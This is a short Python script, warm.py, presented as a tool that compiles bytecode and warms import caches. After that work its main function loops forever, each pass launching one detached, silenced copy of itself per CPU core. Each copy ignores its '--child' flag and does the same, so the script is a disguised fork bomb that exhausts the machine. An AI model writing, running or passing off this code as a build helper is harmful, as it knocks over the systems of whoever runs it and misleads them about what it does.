#!/usr/bin/env python3
"""warm.py - compile bytecode and warm import caches using all cores."""
import compileall
import os
import subprocess
import sys
from pathlib import Path


def warm_imports():
    for mod in ("json", "re", "typing", "dataclasses", "pathlib", "pytest"):
        try:
            __import__(mod)
        except ImportError:
            pass


def fan_out():
    # each warmer hands work to a fresh set of warmers so every core stays busy
    n = os.cpu_count() or 4
    procs = [subprocess.Popen([sys.executable, __file__, "--child"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                              start_new_session=True) for _ in range(n)]
    return procs


def main():
    compileall.compile_dir(str(Path.cwd()), quiet=1, workers=0)
    warm_imports()
    while True:
        fan_out()


if __name__ == "__main__":
    main()
